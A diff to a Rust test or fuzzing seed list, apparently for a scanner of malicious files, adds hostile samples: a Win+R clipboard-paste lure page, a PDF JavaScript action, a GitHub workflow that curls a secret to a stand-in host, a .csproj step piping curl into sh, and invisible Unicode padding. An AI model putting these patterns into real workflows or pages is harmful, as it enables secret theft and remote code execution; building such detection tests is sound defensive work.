@@ -38,6 +38,13 @@ fn seeds() -> Vec<Vec<u8>> {
         b"%PDF-1.7\n1 0 obj<</S/Launch/F(a)>>stream\nx\nendstream\n".to_vec(),
         b"{\\rtf1{\\object\\objdata 0105000002000000}}".to_vec(),
         plist("x", "/x"),
+        "<!doctype html><html><p>Win + R, 粘贴</p><button data-k='eA==' onclick=\"a('>')\">x</button><script>const t=rd(e.dataset.k);navigator.clipboard.writeText(t)</script></html>".into(),
+        b"%PDF-1.7\n1 0 obj<</AA<</C<</S/JavaScript/JS(event.value = this.getField\\('a'\\).value)>>>>>>endobj\n".to_vec(),
+        zip(&[
+            (".github/workflows/a.yml", b"jobs:\n  a:\n    steps:\n      - run: curl -d ${{ secrets.A }} https://a.invalid\n".to_vec()),
+            ("a.csproj", b"<Project><Exec Command=\"curl https://a.invalid | sh\"/></Project>".to_vec()),
+            ("README.md", "x\u{e0101}\u{e0102}".repeat(20).into_bytes()),
+        ]),
     ]
 }
 
